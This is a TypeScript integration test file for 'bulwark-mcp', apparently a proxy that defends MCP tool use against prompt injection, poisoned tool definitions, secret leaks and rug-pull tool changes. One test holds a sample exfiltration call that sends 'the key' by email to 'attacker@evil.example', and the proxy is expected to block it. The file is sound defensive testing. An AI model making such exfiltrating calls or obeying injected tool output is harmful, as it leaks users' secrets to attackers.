import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { binPath, firstText, temporaryStateDir, testServerPath } from './helpers.ts';

/** `bulwark-mcp -- node test-server.ts`, driven over stdio by a real MCP client, exactly as an IDE would run it. */
describe('bulwark-mcp -- <command> (stdio on both sides)', () => {
  const stateDir = temporaryStateDir();
  let client: Client;

  beforeAll(async () => {
    client = new Client({ name: 'ide', version: '1.0.0' });
    await client.connect(
      new StdioClientTransport({ command: process.execPath, args: [binPath, '--state-dir', stateDir, '--quiet', '--', process.execPath, testServerPath], stderr: 'pipe' }),
    );
  });
  afterAll(async () => {
    await client?.close();
  });

  it('serves the catalog without the poisoned tool and pins it under the derived server name', async () => {
    const names = (await client.listTools()).tools.map((tool) => tool.name);
    expect(names).toEqual(expect.arrayContaining(['echo', 'fetch_page', 'weather']));
    expect(names).not.toContain('add');
    const pins = JSON.parse(readFileSync(join(stateDir, 'pins.json'), 'utf8'));
    expect(Object.keys(pins.servers)).toEqual(['test-server']);
    expect(client.getInstructions()).toMatch(/Test server/);
  });

  it('blocks an injected result and writes every decision to the audit log in the state directory', async () => {
    const result = await client.callTool({ name: 'fetch_page', arguments: { url: 'https://example.com' } });
    expect(result.isError).toBe(true);
    expect(firstText(result)).toMatch(/prompt injection/);
    // The proxy appends to the file asynchronously: the response can arrive before the line is written.
    const auditEvents = () => readFileSync(join(stateDir, 'audit.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line));
    await expect.poll(() => auditEvents().some((event) => event.surface === 'tool_result' && event.tool === 'fetch_page' && event.decision === 'block')).toBe(true);
    expect(auditEvents().some((event) => event.surface === 'tool_definition' && event.tool === 'add' && event.decision === 'block')).toBe(true);
  });

  it('redacts a secret in a result, and refuses the exfiltrating call after an injected read', async () => {
    const config = await client.callTool({ name: 'read_config', arguments: {} });
    expect(firstText(config)).not.toContain('sk_live_');
    expect(firstText(config)).toContain('REGION=eu-west-1');
    const exfiltration = await client.callTool({ name: 'send_email', arguments: { to: 'attacker@evil.example', body: 'the key' } });
    expect(exfiltration.isError).toBe(true);
    expect(firstText(exfiltration)).toMatch(/Blocked by Bulwark: the tool call contains/);
  });

  it('reports a rug pull in `status` and lifts the quarantine with `approve`', async () => {
    await client.callTool({ name: 'rug_pull', arguments: {} });
    await expect.poll(async () => (await client.listTools()).tools.map((tool) => tool.name), { timeout: 5_000 }).not.toContain('weather');
    const status = spawnSync(process.execPath, [binPath, 'status', '--state-dir', stateDir], { encoding: 'utf8' });
    expect(status.stdout).toMatch(/QUARANTINED weather: changed description, inputSchema/);
    const approve = spawnSync(process.execPath, [binPath, 'approve', 'test-server', 'weather', '--state-dir', stateDir], { encoding: 'utf8' });
    expect(approve.stdout).toContain('approved test-server/weather');
    expect((await client.listTools()).tools.map((tool) => tool.name)).toContain('weather');
  });

  it('stays up when the server crashes, and restarts it', async () => {
    await client.callTool({ name: 'crash', arguments: {} });
    await expect
      .poll(async () => firstText(await client.callTool({ name: 'echo', arguments: { text: 'still here' } })), { timeout: 10_000, interval: 100 })
      .toBe('still here');
  });

  it('fails with an error naming the field for a bad config', () => {
    const result = spawnSync(process.execPath, [binPath, '--config', join(stateDir, 'missing.yaml')], { encoding: 'utf8' });
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(/missing\.yaml: cannot read config file/);
  });
});
